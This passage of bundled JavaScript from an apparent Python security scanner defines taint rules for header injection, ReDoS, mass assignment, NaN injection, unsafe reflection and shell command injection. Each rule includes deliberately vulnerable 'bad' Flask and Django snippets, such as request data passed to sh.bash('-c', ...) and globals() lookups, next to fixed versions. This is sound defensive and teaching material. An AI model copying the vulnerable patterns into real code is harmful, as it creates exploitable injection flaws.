  const method = module2.calleeAttribute(node) ?? "";
  if (callee?.type === "attribute" && Object.hasOwn(HEADER_METHODS, method) && isHeaderMap(callee.childForFieldName("object"), module2)) {
    const spec = HEADER_METHODS[method];
    const value = argument(node, spec.name, spec.position) ?? argument(node, "value", null);
    const header = argument(node, "_key", 0);
    const name = header && spec.position === 1 ? module2.constant(header) : void 0;
    return value ? headerSink(value, node, typeof name === "string" ? name : void 0, callee.text) : void 0;
  }
  if (!RESPONSE_FACTORY.test(module2.callName(node) ?? method))
    return void 0;
  const headers = keywordArgument(node, "headers") ?? (Object.hasOwn(HEADER_POSITIONS, method) ? argument(node, null, HEADER_POSITIONS[method]) : void 0);
  return headers ? headerSink(headers, node, void 0, `${callee?.text ?? method}(headers=...)`) : void 0;
}
var HEADER_METHODS, HEADER_POSITIONS, RESPONSE_NAME, RESPONSE_FACTORY, LEVELS3, LINE_SAFE_SOURCE, header_injection_default;
var init_header_injection = __esm({
  "dist/rules/header-injection/header-injection.js"() {
    "use strict";
    init_taint_rule();
    init_arguments();
    HEADER_METHODS = {
      add: { name: "_value", position: 1 },
      set: { name: "_value", position: 1 },
      setdefault: { name: "default", position: 1 },
      add_header: { name: "_value", position: 1 },
      update: { name: "other", position: 0 },
      extend: { name: "other", position: 0 }
    };
    HEADER_POSITIONS = { make_response: 2 };
    RESPONSE_NAME = /resp/i;
    RESPONSE_FACTORY = /(Response\w*|make_response|redirect|render|render_to_response|HttpResponse\w*)$/;
    LEVELS3 = levelTable({
      request: { severity: "high", confidence: "high" },
      parameter: { severity: "low", confidence: "low" }
    });
    LINE_SAFE_SOURCE = /^[\w.]*\b(headers|META|environ|COOKIES|cookies)\b/;
    header_injection_default = taintRule({
      id: "header-injection",
      aliases: [],
      category: "header-injection",
      cwe: 113,
      severity: "high",
      confidence: "high",
      cost: "deep",
      message: "response header set from request data: CR/LF in it splits the response (HTTP header injection)",
      fix: "Do not copy request data into headers; when you must, percent-encode it (urllib.parse.quote), cast it (int()), or check it against an allow-list. For Location, redirect to a URL you built (url_for/reverse).",
      // Every sink writes `headers`, or a receiver named like a response or bound to a factory (`resp`, `redirect(...)`, `render(...)`).
      triggers: ["headers", /resp/i, "redirect", "render"],
      callees: [...Object.keys(HEADER_METHODS), ...Object.keys(HEADER_POSITIONS)],
      calleeKeywords: /^headers$/,
      docs: {
        why: 'A header value with `\\r\\n` in it ends the header and starts another, or the body: the client (or a cache in front of it) receives cookies, redirects or HTML the attacker chose (response splitting, CWE-113). Newer Werkzeug and Django reject newlines in header values, which turns the attack into an error page, but older stacks, custom WSGI code and proxies do not; a Location or Content-Disposition built from input is also an open redirect or a download-name spoof. The rule follows request data into `response["X"] = \u2026`, `response.headers[...]`, `headers.add/set/update` and the `headers=` of response constructors; request headers and cookies echoed back cannot hold a line break and are not reported.',
        bad: [
          'from django.http import HttpResponse\ndef download(request):\n    response = HttpResponse(b"...", content_type="application/pdf")\n    response["Content-Disposition"] = "attachment; filename=" + request.GET["name"]\n    return response\n',
          'from flask import Flask, request, make_response\napp = Flask(__name__)\n@app.route("/lang")\ndef lang():\n    resp = make_response("ok")\n    resp.headers["Content-Language"] = request.args.get("lang", "en")\n    return resp\n'
        ],
        good: [
          'from urllib.parse import quote\nfrom django.http import HttpResponse\ndef download(request):\n    response = HttpResponse(b"...", content_type="application/pdf")\n    response["Content-Disposition"] = "attachment; filename=" + quote(request.GET["name"])\n    return response\n',
          'from flask import Flask, request, make_response\napp = Flask(__name__)\nLANGUAGES = {"en", "fr", "de"}\n@app.route("/lang")\ndef lang():\n    resp = make_response("ok")\n    lang = request.args.get("lang", "en")\n    if lang not in LANGUAGES:\n        lang = "en"\n    resp.headers["Content-Language"] = lang\n    return resp\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/113.html", "https://owasp.org/www-community/attacks/HTTP_Response_Splitting", "https://codeql.github.com/codeql-query-help/python/py-http-response-splitting/"]
      },
      sinkClass: "header",
      levels: LEVELS3,
      match: { assignment: assignedSink, call: calledSink }
    });
  }
});

// dist/rules/regex-injection/regex-injection.js
function isImported(call, module2) {
  let root = call.childForFieldName("function");
  while (root?.type === "attribute")
    root = root.childForFieldName("object");
  return root?.type === "identifier" && module2.imports.aliases.has(root.text) && !module2.scopeOf(root).bindings.has(root.text);
}
function calledPatterns(node, module2) {
  const sinks = patternsOf(node, module2);
  return sinks.length > 0 && mayHoldRequestData(node, module2) ? sinks : [];
}
function patternsOf(node, module2) {
  const name = module2.callName(node) ?? "";
  if (REGEX_FUNCTIONS.includes(name) && isImported(node, module2)) {
    const pattern = argument(node, PATTERN_PARAMETER.name, PATTERN_PARAMETER.position);
    return pattern ? [{ value: pattern }] : [];
  }
  const sinks = [];
  for (const arg of argumentList(node)) {
    const keyword = arg.type === "keyword_argument" ? arg.childForFieldName("name")?.text ?? "" : "";
    const value = arg.childForFieldName("value");
    if (DJANGO_REGEX_LOOKUP.test(keyword) && value)
      sinks.push({ value, label: `${module2.calleeAttribute(node) ?? "filter"}(${keyword}=...)` });
  }
  return sinks;
}
function mongoPattern(node, module2) {
  const key = node.childForFieldName("key");
  const value = node.childForFieldName("value");
  if (!key || !value || module2.constant(key) !== MONGO_REGEX_KEY || !mayHoldRequestData(node, module2))
    return void 0;
  return { value, label: MONGO_REGEX_KEY };
}
var REGEX_FUNCTIONS, PATTERN_PARAMETER, DJANGO_REGEX_LOOKUP, MONGO_REGEX_KEY, LEVELS4, regex_injection_default;
var init_regex_injection = __esm({
  "dist/rules/regex-injection/regex-injection.js"() {
    "use strict";
    init_name_triggers();
    init_taint_rule();
    init_arguments();
    init_taint();
    REGEX_FUNCTIONS = ["compile", "match", "search", "fullmatch", "findall", "finditer", "sub", "subn", "split"].flatMap((name) => [`re.${name}`, `regex.${name}`]);
    PATTERN_PARAMETER = { name: "pattern", position: 0 };
    DJANGO_REGEX_LOOKUP = /__i?regex$/;
    MONGO_REGEX_KEY = "$regex";
    LEVELS4 = REQUEST_ONLY;
    regex_injection_default = taintRule({
      id: "regex-injection",
      aliases: [],
      category: "regex-injection",
      cwe: 1333,
      severity: "high",
      confidence: "high",
      cost: "deep",
      message: "regular expression built from request data: a crafted pattern backtracks for minutes (ReDoS) or matches more than intended",
      fix: "Escape the value with re.escape() before it enters a pattern, or match it as plain text (`in`, str.startswith); for search boxes, use a fixed pattern around the escaped term.",
      triggers: ["re", "regex", /__i?regex/, MONGO_REGEX_KEY],
      callees: [...new Set(REGEX_FUNCTIONS.map(lastName))],
      calleeKeywords: DJANGO_REGEX_LOOKUP,
      docs: {
        why: "Python's `re` backtracks: a pattern like `(a+)+$` against a long run of `a`s takes exponential time, and one request pins a worker (CWE-1333, denial of service). Letting the client write the pattern also lets it match data it should not see (`.*`). The rule follows request data into the pattern of `re`/`regex` functions, Django `__regex`/`__iregex` lookups and MongoDB `$regex`; `re.escape()` ends the flow. Patterns from parameters and command lines are not reported.",
        bad: [
          'import re\nfrom flask import request\ndef search(names):\n    pattern = re.compile(request.args["q"])\n    return [name for name in names if pattern.search(name)]\n',
          'from django.http import JsonResponse\nfrom shop.models import Product\ndef search(request):\n    found = Product.objects.filter(name__iregex=request.GET["q"])\n    return JsonResponse({"ids": [p.id for p in found]})\n'
        ],
        good: [
          'import re\nfrom flask import request\ndef search(names):\n    pattern = re.compile(re.escape(request.args["q"]), re.IGNORECASE)\n    return [name for name in names if pattern.search(name)]\n',
          'from django.http import JsonResponse\nfrom shop.models import Product\ndef search(request):\n    found = Product.objects.filter(name__icontains=request.GET["q"])\n    return JsonResponse({"ids": [p.id for p in found]})\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/1333.html", "https://owasp.org/www-community/attacks/Regular_expression_Denial_of_Service_-_ReDoS", "https://codeql.github.com/codeql-query-help/python/py-regex-injection/"]
      },
      sinkClass: "regex",
      levels: LEVELS4,
      describe: (source) => `regular expression built from ${source} (ReDoS, regex injection)`,
      match: { call: calledPatterns, pair: mongoPattern }
    });
  }
});

// dist/rules/mass-assignment/mass-assignment.js
function isValidatedMapping(node, module2) {
  if (node.type === "attribute")
    return VALIDATED_ATTRIBUTES.has(node.childForFieldName("attribute")?.text ?? "");
  if (node.type !== "call" || !VALIDATING_METHODS.has(module2.calleeAttribute(node) ?? ""))
    return false;
  let receiver = node.childForFieldName("function")?.childForFieldName("object") ?? null;
  if (receiver?.type === "identifier")
    receiver = module2.valuesOf(receiver)?.[0] ?? receiver;
  const validator = receiver?.type === "call" ? receiver.childForFieldName("function") : receiver;
  const name = validator?.type === "attribute" ? validator.childForFieldName("attribute")?.text : validator?.text;
  return !!name && isValidatingClass(name, module2);
}
function keyTrace(node, module2, depth = 0) {
  if (isValidatedMapping(node, module2))
    return { kind: "sanitised", flow: [] };
  switch (node.type) {
    case "dictionary": {
      const keys = node.namedChildren.map((item) => item.type === "pair" ? item.childForFieldName("key") : item).filter((key) => !!key);
      return strongestTrace(keys.map((key) => key.type === "dictionary_splat" && key.firstNamedChild ? keyTrace(key.firstNamedChild, module2, depth + 1) : traceValue(key, module2)));
    }
    case "dictionary_comprehension": {
      if (node.namedChildren.some((clause) => clause.type === "if_clause"))
        return { kind: "sanitised", flow: [] };
      const key = node.childForFieldName("body")?.childForFieldName("key");
      return key ? traceValue(key, module2) : traceValue(node, module2);
    }
    case "identifier": {
      const values = depth < 3 ? module2.valuesOf(node) ?? [] : [];
      if (values.length > 0 && values.every((value) => value.type === "dictionary" || value.type === "dictionary_comprehension" || isValidatedMapping(value, module2))) {
        return strongestTrace(values.map((value) => keyTrace(value, module2, depth + 1)));
      }
      return traceValue(node, module2);
    }
    default:
      return traceValue(node, module2);
  }
}
function attributeNameTrace(name, module2) {
  if (name.type !== "identifier")
    return traceValue(name, module2);
  for (let node = name.parent; node && node.type !== "function_definition"; node = node.parent) {
    if (node.type !== "for_statement")
      continue;
    const left = node.childForFieldName("left");
    const key = left?.type === "identifier" ? left : left?.namedChildren[0];
    let mapping = node.childForFieldName("right");
    if (key?.text !== name.text || !mapping)
      continue;
    if (mapping.type === "call" && ["items", "keys"].includes(module2.calleeAttribute(mapping) ?? "")) {
      mapping = mapping.childForFieldName("function")?.childForFieldName("object") ?? mapping;
    }
    return keyTrace(mapping, module2);
  }
  return traceValue(name, module2);
}
function namedFields(call, module2) {
  const callee = call.childForFieldName("function");
  if (!callee)
    return void 0;
  if (module2.callName(call) === "setattr" && module2.isBuiltin("setattr")) {
    const name = argument(call, null, 1);
    return name ? { value: name, names: "name" } : void 0;
  }
  if (module2.calleeAttribute(call) === "update" && callee.type === "attribute" && ATTRIBUTE_MAPS.test(callee.childForFieldName("object").text)) {
    const value = argument(call, null, 0);
    return value ? { value, names: "keys" } : void 0;
  }
  return void 0;
}
function splatFields(call, splat, module2) {
  const callee = call.childForFieldName("function");
  const value = splat.firstNamedChild;
  if (!callee || !value)
    return void 0;
  const method = module2.calleeAttribute(call) ?? "";
  if (CLASS_NAME.test(method) && !isValidatingClass(method, module2))
    return { value, names: "keys" };
  if (FIELD_METHODS.has(method) && callee.type === "attribute")
    return { value, names: "keys" };
  return void 0;
}
function isValidatingClass(name, module2) {
  if (VALIDATING_NAMES.test(name))
    return true;
  const definition = module2.classDefinitions().find((candidate) => candidate.childForFieldName("name")?.text === name);
  const bases = definition?.childForFieldName("superclasses")?.namedChildren ?? [];
  return bases.some((base) => VALIDATING_BASES.test(module2.qualifiedName(base) ?? base.text));
}
var FIELD_METHODS, CLASS_NAME, VALIDATING_BASES, VALIDATING_NAMES, ATTRIBUTE_MAPS, VALIDATED_ATTRIBUTES, VALIDATING_METHODS, mass_assignment_default;
var init_mass_assignment = __esm({
  "dist/rules/mass-assignment/mass-assignment.js"() {
    "use strict";
    init_types();
    init_arguments();
    init_taint();
    FIELD_METHODS = /* @__PURE__ */ new Set(["create", "update", "get_or_create", "update_or_create", "values"]);
    CLASS_NAME = /^_?[A-Z]\w*[a-z]\w*$/;
    VALIDATING_BASES = /(^|\.)(BaseModel|Schema|Serializer|ModelSerializer|Form|ModelForm|Struct)$/;
    VALIDATING_NAMES = /(Schema|Serializer|Form|Input|Payload|Request|DTO|Params|Validator)$/;
    ATTRIBUTE_MAPS = /(\.__dict__|^vars\(.*\))$/;
    VALIDATED_ATTRIBUTES = /* @__PURE__ */ new Set(["cleaned_data", "validated_data"]);
    VALIDATING_METHODS = /* @__PURE__ */ new Set(["load", "validate", "model_dump", "dict"]);
    mass_assignment_default = defineRule({
      id: "mass-assignment",
      aliases: [],
      category: "mass-assignment",
      cwe: 915,
      severity: "high",
      confidence: "high",
      cost: "deep",
      message: "model fields set from a mapping the client chose: it can set fields the form never offered (`is_admin`, `owner_id`)",
      fix: 'Copy the fields you expect by name (`User(name=data["name"], email=data["email"])`), or validate the body with a form/serializer/schema that lists its fields, and pass its validated data.',
      triggers: ["**", "setattr", "__dict__", "vars"],
      callees: ["setattr", "update"],
      docs: {
        why: 'Passing a request body straight into a model (`User(**request.json)`, `objects.create(**request.POST.dict())`) lets the client set every column the model has, not only those on the form: `{"name": "x", "is_admin": true}` makes an administrator (CWE-915). The same holds for `obj.__dict__.update(body)` and `setattr(obj, key, value)` with keys from the request. A dict with constant keys, a comprehension filtered by an allow-list, the validated data of a form, serializer or schema, and a request splatted into a pydantic model, marshmallow schema, serializer or form class (which declares its fields) are not reported.',
        bad: [
          "from flask import request\nfrom app.models import User, db\ndef register():\n    user = User(**request.get_json())\n    db.session.add(user)\n    db.session.commit()\n",
          'from django.http import JsonResponse\nfrom shop.models import Order\ndef create_order(request):\n    order = Order.objects.create(**request.POST.dict())\n    return JsonResponse({"id": order.id})\n'
        ],
        good: [
          'from flask import request\nfrom app.models import User, db\ndef register():\n    body = request.get_json()\n    user = User(name=body["name"], email=body["email"])\n    db.session.add(user)\n    db.session.commit()\n',
          'from django.http import JsonResponse\nfrom shop.models import Order\nFIELDS = ("product", "quantity")\ndef create_order(request):\n    order = Order.objects.create(**{field: request.POST[field] for field in FIELDS})\n    return JsonResponse({"id": order.id})\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/915.html", "https://cheatsheetseries.owasp.org/cheatsheets/Mass_Assignment_Cheat_Sheet.html"]
      },
      create(context) {
        const { module: module2 } = context;
        const check2 = (call, fields) => {
          if (!fields || !mayHoldRequestData(call, module2))
            return;
          const trace = fields.names === "keys" ? keyTrace(fields.value, module2) : attributeNameTrace(fields.value, module2);
          if (trace.kind !== "request")
            return;
          const flow = sinkFlow(trace, call);
          const what = fields.names === "name" ? "attribute name chosen by" : "fields set from";
          context.report({ node: call, message: flowMessage(`model ${what} ${describeSource(trace)} (mass assignment)`, flow), flow });
        };
        return {
          // The engine hands this handler only `setattr(...)` and `….update(...)` calls (callees): not every call of the file.
          call: (node) => check2(node, namedFields(node, module2)),
          dictionary_splat(node) {
            const call = node.parent?.type === "argument_list" ? node.parent.parent : null;
            if (call?.type === "call" && node.parent.namedChildren.find((arg) => arg.type === "dictionary_splat")?.id === node.id)
              check2(call, splatFields(call, node, module2));
          }
        };
      }
    });
  }
});

// dist/rules/other/nan-injection.js
function isCompared(node) {
  let current = node;
  while (current.parent?.type === "parenthesized_expression")
    current = current.parent;
  const parent = current.parent;
  if (parent?.type !== "comparison_operator")
    return false;
  return parent.children.some((child) => !child.isNamed && ORDERING.has(child.type));
}
function comparedUses(cast, fn) {
  if (isCompared(cast))
    return { compared: [cast] };
  let holder = cast;
  while (holder.parent?.type === "parenthesized_expression")
    holder = holder.parent;
  const assignment = holder.parent;
  const target = assignment?.type === "assignment" && assignment.childForFieldName("right")?.id === holder.id ? assignment.childForFieldName("left") : null;
  if (target?.type !== "identifier" || !fn)
    return { compared: [] };
  return { name: target.text, compared: comparedNames(target.text, fn, assignment.endIndex) };
}
function comparedNames(name, fn, after) {
  return fn.descendantsOfType("identifier").filter((use) => use.text === name && use.startIndex > after && isCompared(use));
}
function checksFinite(name, fn, module2) {
  if (!name || !fn)
    return false;
  const checked = (call) => argument(call, null, 0)?.text === name || call.childForFieldName("function")?.childForFieldName("object")?.text === name;
  return fn.descendantsOfType("call").some((call) => FINITE_CHECKS.test(module2.calleeAttribute(call) ?? "") && checked(call)) || fn.descendantsOfType("comparison_operator").some((comparison) => comparison.namedChildren.length === 2 && comparison.namedChildren.every((side) => side.text === name));
}
function floatRouteParameters(node, module2) {
  if (!isRouteHandler(node))
    return [];
  const found = [];
  for (const parameter of node.childForFieldName("parameters")?.namedChildren ?? []) {
    const type = parameter.childForFieldName("type")?.text ?? "";
    const name = parameterName(parameter);
    if (!name || !/^(float|Optional\[float\]|float \| None)$/.test(type))
      continue;
    const compared = comparedNames(name.text, node, parameter.endIndex);
    if (compared.length === 0 || checksFinite(name.text, node, module2))
      continue;
    const flow = [`${name.text} (float parameter of route ${node.childForFieldName("name")?.text ?? ""}, line ${name.startPosition.row + 1})`, `compared at line ${compared[0].startPosition.row + 1}`];
    found.push({ fixed: { node: parameter, message: flowMessage('route parameter parsed as float (accepts "nan") and compared without a NaN check (NaN injection)', flow), flow } });
  }
  return found;
}
function comparedCast(node, module2) {
  const name = module2.callName(node) ?? "";
  if (!NAN_CASTS.has(name) || name === "float" && !module2.isBuiltin("float"))
    return void 0;
  const value = argument(node, null, 0);
  if (!value)
    return void 0;
  const fn = enclosingFunction(node);
  const { name: bound, compared } = comparedUses(node, fn);
  if (compared.length === 0 || checksFinite(bound, fn, module2))
    return void 0;
  return {
    value,
    label: `${name}()`,
    then: [`compared at line ${compared[0].startPosition.row + 1}`],
    describe: (source) => `${source} cast with ${name}() and compared without a NaN check (NaN injection)`
  };
}
var NAN_CASTS, FINITE_CHECKS, ORDERING, nan_injection_default;
var init_nan_injection = __esm({
  "dist/rules/other/nan-injection.js"() {
    "use strict";
    init_taint_rule();
    init_syntax();
    init_arguments();
    init_scope();
    init_taint();
    NAN_CASTS = /* @__PURE__ */ new Set(["float", "numpy.float64", "numpy.float32", "numpy.double"]);
    FINITE_CHECKS = /(^|\.)(isnan|isfinite|isinf|is_nan|is_finite|is_infinite)$/;
    ORDERING = /* @__PURE__ */ new Set(["<", ">", "<=", ">=", "==", "!="]);
    nan_injection_default = taintRule({
      id: "nan-injection",
      aliases: [],
      category: "other",
      cwe: 1287,
      severity: "high",
      confidence: "high",
      cost: "deep",
      message: 'float() of request data compared without a NaN check: `"nan"` makes every comparison False and skips the check',
      fix: "Reject non-finite numbers after the cast (`if not math.isfinite(amount): abort(400)`), or parse with int()/Decimal and a range check that fails closed.",
      triggers: ["float", "float64", "float32", "double"],
      // Casts by name; a route's `float`-typed parameters (FastAPI/pydantic parse "nan" too) by its definition.
      callees: [...NAN_CASTS].map((name) => name.split(".").pop()),
      docs: {
        why: '`float()` accepts "nan", "inf" and "-inf". NaN compares False with everything, so `if amount > balance: refuse()` lets a NaN amount through, and the NaN then poisons sums, balances and stored prices. The rule follows request data into float() (and numpy floats) and reports the cast when its result is compared with <, >, <=, >=, == or != without a math.isnan/math.isfinite check in the function. Route parameters typed `float` (FastAPI/pydantic accept "nan" as well) count the same; `confloat(allow_inf_nan=False)`/`Field(allow_inf_nan=False)` or an int type rules it out.',
        bad: [
          'from flask import request, abort\ndef withdraw(account):\n    amount = float(request.form["amount"])\n    if amount > account.balance:\n        abort(400)\n    account.balance -= amount\n'
        ],
        good: [
          'import math\nfrom flask import request, abort\ndef withdraw(account):\n    amount = float(request.form["amount"])\n    if not math.isfinite(amount) or amount > account.balance:\n        abort(400)\n    account.balance -= amount\n',
          'from flask import request, abort\ndef withdraw(account):\n    cents = int(request.form["cents"])\n    if cents > account.balance_cents:\n        abort(400)\n    account.balance_cents -= cents\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/1287.html", "https://docs.python.org/3/library/functions.html#float", "https://docs.python.org/3/library/math.html#math.isfinite"]
      },
      sinkClass: void 0,
      levels: REQUEST_ONLY,
      match: { function_definition: floatRouteParameters, call: comparedCast }
    });
  }
});

// dist/rules/code-injection/dynamic-dispatch.js
function isNamespace(node, module2) {
  if (node.type === "call") {
    const name = module2.callName(node) ?? "";
    return NAMESPACE_CALLS.has(name) && module2.isBuiltin(name);
  }
  return node.type === "attribute" && node.childForFieldName("attribute")?.text === "__dict__";
}
function isAffixed(value, module2) {
  const shape = module2.fold(value);
  return !!shape && !shape.constant && shape.text.split(HOLE).join("").length > 0;
}
function isCalled(lookup, module2) {
  let node = lookup;
  while (node.parent?.type === "parenthesized_expression")
    node = node.parent;
  const parent = node.parent;
  if (parent?.type === "call" && parent.childForFieldName("function")?.id === node.id)
    return true;
  const target = parent?.type === "assignment" && parent.childForFieldName("right")?.id === node.id ? parent.childForFieldName("left") : null;
  const scope = enclosingFunction(lookup) ?? module2.root;
  return target?.type === "identifier" && scope.descendantsOfType("call").some((call) => call.startIndex > parent.endIndex && call.childForFieldName("function")?.text === target.text);
}
function lookedUpName(node, module2) {
  if (node.type === "subscript") {
    const mapping = node.childForFieldName("value");
    const key = node.childForFieldName("subscript");
    return mapping && key && isNamespace(mapping, module2) ? { value: key, label: `${mapping.text}[...]` } : void 0;
  }
  const callee = node.childForFieldName("function");
  if (callee?.type === "attribute" && callee.childForFieldName("attribute")?.text === "get" && isNamespace(callee.childForFieldName("object"), module2)) {
    const key = argument(node, null, 0);
    return key ? { value: key, label: callee.text } : void 0;
  }
  const name = module2.callName(node) ?? "";
  const spec = Object.hasOwn(LOOKUP_FUNCTIONS, name) && (name.includes(".") || module2.isBuiltin(name)) ? LOOKUP_FUNCTIONS[name] : void 0;
  const value = spec ? argument(node, spec.name, spec.position) : void 0;
  return value ? { value, label: name } : void 0;
}
function nameLookup(node, module2) {
  const lookup = lookedUpName(node, module2);
  if (!lookup || !mayHoldRequestData(node, module2))
    return void 0;
  let reach;
  const reached = () => reach ??= { affixed: isAffixed(lookup.value, module2), called: MODULE_LOADERS.has(lookup.label) || isCalled(node, module2) };
  return {
    value: lookup.value,
    label: lookup.label,
    refine: (trace) => trace.kind === "request" ? trace : void 0,
    get levels() {
      return LEVELS5[reached().called && !reached().affixed ? "called" : "narrower"];
    },
    describe: () => {
      const { affixed, called } = reached();
      const what = affixed ? "name built from request data picks the function or attribute (narrowed by constant text)" : called ? "request data picks the function or module that runs" : "request data picks the attribute that is read";
      return `${what} (unsafe reflection)`;
    }
  };
}
var NAMESPACE_CALLS, LOOKUP_FUNCTIONS, LEVELS5, MODULE_LOADERS, dynamic_dispatch_default;
var init_dynamic_dispatch = __esm({
  "dist/rules/code-injection/dynamic-dispatch.js"() {
    "use strict";
    init_taint_rule();
    init_syntax();
    init_arguments();
    init_literals();
    init_taint();
    NAMESPACE_CALLS = /* @__PURE__ */ new Set(["globals", "locals", "vars"]);
    LOOKUP_FUNCTIONS = {
      getattr: { name: null, position: 1 },
      "importlib.import_module": { name: "name", position: 0 },
      __import__: { name: "name", position: 0 }
    };
    LEVELS5 = {
      called: REQUEST_ONLY,
      narrower: levelTable({ request: { severity: "medium", confidence: "medium" } })
    };
    MODULE_LOADERS = /* @__PURE__ */ new Set(["importlib.import_module", "__import__"]);
    dynamic_dispatch_default = taintRule({
      id: "dynamic-dispatch",
      aliases: [],
      category: "code-injection",
      cwe: 470,
      severity: "high",
      confidence: "high",
      cost: "deep",
      message: "function, attribute or module picked by a name from the request: the client reaches code it was never offered",
      fix: 'Map the accepted names to their functions explicitly (`ACTIONS = {"export": export_csv}`; `ACTIONS[name]`), or check the name against an allow-list before the lookup.',
      triggers: ["globals", "locals", "vars", "__dict__", "getattr", "import_module", "__import__"],
      callees: ["get", "getattr", "import_module", "__import__"],
      docs: {
        why: '`globals()[request.GET["action"]]()` or `getattr(views, name)` lets the client call any function or read any attribute in reach: helpers never meant as endpoints, `os`/`subprocess` imported into the module, settings with secrets (CWE-470, unsafe reflection). `importlib.import_module(name)` loads any module on the path. A looked-up function that is called, or a loaded module, is high severity; an attribute only read, or a name formatted with constant text (`"handle_" + action`), reaches less and is medium; a check against an allow-list, or an explicit dispatch table, ends the flow.',
        bad: [
          'from flask import request\ndef export_csv(): ...\ndef run():\n    return globals()[request.args["action"]]()\n',
          'from django.http import JsonResponse\nfrom app import reports\ndef report(request):\n    build = getattr(reports, request.GET["kind"])\n    return JsonResponse(build())\n',
          'from flask import request\nfrom app import settings\ndef setting():\n    return str(getattr(settings, request.args["name"]))\n'
        ],
        good: [
          'from flask import request\ndef export_csv(): ...\nACTIONS = {"export": export_csv}\ndef run():\n    return ACTIONS[request.args["action"]]()\n',
          'from django.http import JsonResponse\nfrom app import reports\nKINDS = {"daily", "weekly"}\ndef report(request):\n    kind = request.GET["kind"]\n    if kind not in KINDS:\n        return JsonResponse({}, status=400)\n    return JsonResponse(getattr(reports, kind)())\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/470.html", "https://owasp.org/www-community/vulnerabilities/Unsafe_use_of_Reflection"]
      },
      sinkClass: "code",
      levels: LEVELS5.called,
      match: { call: nameLookup, subscript: nameLookup }
    });
  }
});

// dist/rules/command-injection/sh-command-injection.js
function commandText(call, module2) {
  const name = module2.callName(call) ?? "";
  if (PROGRAM_FACTORIES.has(name)) {
    const program = argument(call, "path", 0);
    return program ? { value: program, what: "program run by sh.Command" } : void 0;
  }
  if (!SHELL_PROGRAMS.has(name))
    return void 0;
  const args = argumentList(call).filter((arg) => arg.type !== "keyword_argument");
  const flag = args.findIndex((arg) => module2.constant(arg) === "-c");
  const script = flag >= 0 ? args[flag + 1] : void 0;
  return script ? { value: script, what: `shell script run by ${name} -c` } : void 0;
}
function shellCommand(call, module2) {
  const command = commandText(call, module2);
  return command ? { value: command.value, describe: (source) => `${command.what} comes from ${source} (command injection)` } : void 0;
}
var PROGRAM_FACTORIES, SHELL_PROGRAMS, LEVELS6, sh_command_injection_default;
var init_sh_command_injection = __esm({
  "dist/rules/command-injection/sh-command-injection.js"() {
    "use strict";
    init_taint_rule();
    init_arguments();
    PROGRAM_FACTORIES = /* @__PURE__ */ new Set(["sh.Command"]);
    SHELL_PROGRAMS = /* @__PURE__ */ new Set(["sh.bash", "sh.sh", "sh.zsh", "sh.dash", "sh.ksh", "sh.fish"]);
    LEVELS6 = levelTable({
      request: { severity: "high", confidence: "high" },
      "user-input": { severity: "high", confidence: "medium" },
      "stored-input": { severity: "high", confidence: "medium" },
      parameter: { severity: "medium", confidence: "medium" },
      unknown: { severity: "low", confidence: "low" }
    });
    sh_command_injection_default = taintRule({
      id: "sh-command-injection",
      aliases: [],
      category: "command-injection",
      cwe: 78,
      severity: "high",
      confidence: "high",
      cost: "deep",
      message: "the `sh` package runs a program or shell script chosen at run time",
      fix: 'Call a fixed program with its arguments as separate values (`sh.git("log", "--", path)`); never pass run-time text to `sh.bash("-c", ...)` or `sh.Command(...)`.',
      triggers: ["sh"],
      callees: ["Command", ...[...SHELL_PROGRAMS].map((name) => name.slice(3))],
      docs: {
        why: 'The `sh` package passes each argument to the program as is (no shell), so `sh.ls(path)` is safe from shell syntax. But `sh.bash("-c", script)` hands a whole script to a shell, and `sh.Command(name)` lets the caller pick the program itself: text from a request or the command line there runs any command. Request data \u2192 high; a parameter \u2192 medium.',
        bad: [
          'import sh\nfrom flask import request\ndef archive():\n    return sh.bash("-c", "tar czf /tmp/out.tgz " + request.args["dir"])\n',
          "import sh\ndef run_tool(tool, *args):\n    return sh.Command(tool)(*args)\n"
        ],
        good: [
          'import sh\nfrom flask import request\ndef archive():\n    return sh.tar("czf", "/tmp/out.tgz", "--", request.args["dir"])\n',
          'import sh\ndef run_tool(*args):\n    return sh.Command("/usr/bin/convert")(*args)\n'
        ],
        references: ["https://sh.readthedocs.io/en/latest/", "https://cwe.mitre.org/data/definitions/78.html"]
      },
      sinkClass: "shell",
      levels: LEVELS6,
      match: { call: shellCommand }
    });
  }
});

// dist/rules/command-injection/airflow-bash-command-injection.js
function constantText(value, module2) {
  const shape = module2.fold(value);
  return shape ? shape.text.split(HOLE).join("") : void 0;
}
function bashCommand(node, module2) {
  const name = module2.callName(node) ?? "";
  const parameter = Object.hasOwn(BASH_OPERATORS, name) ? BASH_OPERATORS[name] : void 0;
  const command = parameter ? argument(node, parameter, null) : void 0;
  if (!command)
    return void 0;
  const text = constantText(command, module2);
  if (text !== void 0 && TRIGGER_FIELDS.test(text)) {
    const field = TRIGGER_FIELDS.exec(text)[1];
    return { fixed: { node, severity: "high", confidence: "medium", message: `${lastName(name)} renders {{ ${field} }} (set by whoever triggers the DAG run) into a bash command (command injection)` } };
  }
  return { value: command, describe: (source) => `${lastName(name)} command built from ${source} (command injection)` };
}
var BASH_OPERATORS, TRIGGER_FIELDS, LEVELS7, airflow_bash_command_injection_default;
var init_airflow_bash_command_injection = __esm({
  "dist/rules/command-injection/airflow-bash-command-injection.js"() {
    "use strict";
    init_name_triggers();
    init_taint_rule();
    init_arguments();
    init_literals();
    BASH_OPERATORS = {
      "airflow.operators.bash.BashOperator": "bash_command",
      "airflow.operators.bash_operator.BashOperator": "bash_command",
      "airflow.providers.standard.operators.bash.BashOperator": "bash_command",
      "airflow.providers.ssh.operators.ssh.SSHOperator": "command",
      "airflow.contrib.operators.ssh_operator.SSHOperator": "command"
    };
    TRIGGER_FIELDS = /\{\{[^}]*\b(dag_run\.conf|params)\b/;
    LEVELS7 = levelTable({
      request: { severity: "high", confidence: "high" },
      "user-input": { severity: "high", confidence: "medium" },
      "stored-input": { severity: "high", confidence: "medium" },
      parameter: { severity: "medium", confidence: "low" }
    });
    airflow_bash_command_injection_default = taintRule({
      id: "airflow-bash-command-injection",
      aliases: [],
      category: "command-injection",
      cwe: 78,
      severity: "high",
      confidence: "medium",
      cost: "deep",
      message: "Airflow bash command built from trigger parameters or run-time strings: the text runs as a shell script on the worker",
